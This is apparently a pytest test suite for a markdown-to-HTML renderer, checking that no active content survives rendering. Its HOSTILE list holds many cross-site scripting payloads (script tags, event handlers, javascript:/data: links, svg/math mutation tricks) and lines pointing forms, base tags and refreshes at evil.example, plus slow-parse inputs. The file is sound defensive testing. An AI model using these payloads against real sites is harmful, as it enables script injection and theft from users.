"""Markdown becomes HTML without anything that acts, whatever was written."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelyard.core.markdown import LONGEST_RENDERED, render

HARMLESS = {"href", "title", "rel", "start"}


class Acting(HTMLParser):
    """Collects what must not be in the page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "style", "svg", "math", "img", "iframe", "object", "embed", "form", "base", "meta"}:
            self.found.append(tag)
        for name, value in attrs:
            if name not in HARMLESS:
                self.found.append(name)
            if name == "href" and re.match(r"\s*(javascript|vbscript|data|file)\s*:", value or "", re.IGNORECASE):
                self.found.append(f"{name}={value}")


def _acting(markdown: str) -> list[str]:
    parser = Acting()
    parser.feed(render(markdown))
    return parser.found


def test_what_markdown_is_for() -> None:
    html = render(
        "# Use\n\n*a* **b** `c` ~~d~~ [e](https://example.org)\n\n- f\n\n> g\n\n| h | i |\n|---|---|\n| 1 | 2 |\n"
    )

    for part in ("<h1>Use</h1>", "<em>a</em>", "<strong>b</strong>", "<code>c</code>", "<s>d</s>", "<li>f</li>"):
        assert part in html
    assert '<a href="https://example.org" rel="nofollow noopener noreferrer">e</a>' in html
    assert "<td>2</td>" in html
    assert "<blockquote>" in html


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<style>body{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/png;base64,AAAA)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org "\\"><script>alert(1)</script>")',
    "```<script>alert(1)</script>\nx\n```",
    '```"onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- <script>alert(1)</script> -->",
    "<x onclick=alert(1)>",
    "\u202e<script>alert(1)</script>\0<script>",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_acts(markdown: str) -> None:
    assert _acting(markdown) == []


@given(st.lists(st.sampled_from([*HOSTILE, "**", "`", "[", "](", ")", "<", ">", '"', "\n", "&", "x"]), max_size=8))
def test_nothing_acts_in_any_mixture(parts: list[str]) -> None:
    assert _acting("".join(parts)) == []


def test_a_picture_becomes_its_words() -> None:
    assert render("![a *curve* <b>](https://example.org/curve.png)") == "<p>a curve &lt;b&gt;</p>\n"


@pytest.mark.parametrize(
    "part", ["[", "![", ">", "*a_ ", "**x", "- a\n  ", "`", "<a", "~~a", "|", "\\", "&a", "[a](b)"]
)
def test_texts_made_to_be_slow_end(part: str) -> None:
    text = part * (LONGEST_RENDERED // 5 // len(part))

    assert _acting(text) == []


def test_a_table_with_very_many_cells_is_no_table() -> None:
    wide = f"{'|a' * 150}|\n{'|-' * 150}|\n" + "a\n" * 100

    assert "<table>" not in render(wide)
    assert "<table>" in render("|a|\n|-|\n" + "a\n" * 1000)


def test_deep_nesting_ends() -> None:
    assert _acting(">" * 50_000 + "<script>") == []
    assert _acting("".join("  " * level + "- a\n" for level in range(300))) == []
    assert _acting("[" * 20_000 + "x" + "](javascript:alert(1))" * 3000) == []


def test_a_huge_text_is_shown_as_it_was_written() -> None:
    html = render("<script>" + "x" * LONGEST_RENDERED)

    assert html.startswith("<pre>&lt;script&gt;xxx")
    assert html.endswith("</pre>")
